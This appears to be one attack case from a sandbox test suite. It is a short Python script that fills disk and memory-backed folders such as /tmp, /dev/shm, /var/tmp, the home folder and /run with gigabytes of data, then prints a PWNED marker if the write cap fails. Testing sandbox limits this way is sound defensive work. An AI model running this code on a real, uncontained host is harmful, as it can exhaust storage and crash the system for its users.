# ATTACK 05 disk_fill  [class: resource; severity: high; kind: stdin; task: impossible]
# MUST: what a program writes is capped, in every folder together
# DETECT: PWNED marker over 1 GiB
# WARNING: damages an unsandboxed host; harness must refuse it on an uncontained backend.
import os
total = 0; block = b"d" * (1 << 20)
for d in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run"):
    try:
        for i in range(40):
            f = os.open(f"{d}/atk_left_fill_{i}", os.O_CREAT | os.O_WRONLY)
            while total < 1 << 30: total += os.write(f, block)
    except OSError as e: print(d, total, e.errno)
try:
    f = os.open("sparse", os.O_CREAT | os.O_WRONLY); os.posix_fallocate(f, 0, 2 << 30); total += 2 << 30
except OSError as e: print("fallocate", e.errno)
print(total >> 20)
if total >= 1 << 30: print("PWNED:disk", total >> 20)
